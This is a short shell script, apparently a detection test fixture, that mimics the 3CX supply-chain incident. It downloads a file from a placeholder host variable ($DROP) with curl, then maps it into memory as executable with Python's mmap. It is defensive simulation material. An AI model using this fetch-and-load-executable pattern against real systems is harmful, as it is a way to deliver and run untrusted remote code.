# incident: 3CX (2023): a library from elsewhere is loaded into an honest program
# finding: downloaded-loaded
# needs: curl python3
curl -fsS "http://$DROP/program" -o plugin.so && python3 - <<'PY'
import mmap, os
plugin = os.open("plugin.so", os.O_RDONLY)
mmap.mmap(plugin, 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_EXEC).close()
PY
